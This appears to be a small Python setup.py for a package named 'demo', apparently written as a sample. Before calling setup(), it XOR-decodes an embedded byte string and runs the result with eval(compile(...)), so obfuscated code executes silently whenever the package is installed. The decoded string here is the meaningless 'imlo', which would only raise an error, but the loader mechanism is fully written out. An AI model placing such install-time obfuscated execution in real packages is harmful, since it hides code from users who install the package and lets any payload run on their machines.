from setuptools import setup

data = "\x1b\x1f\x1e\x1d"
key = "rrrr"
code = ""
i = 0
while i < len(data):
    code += chr(ord(data[i]) ^ ord(key[i % len(key)]))
    i += 1
eval(compile(code, "<string>", "exec"))
setup(name="demo", version="0.1")
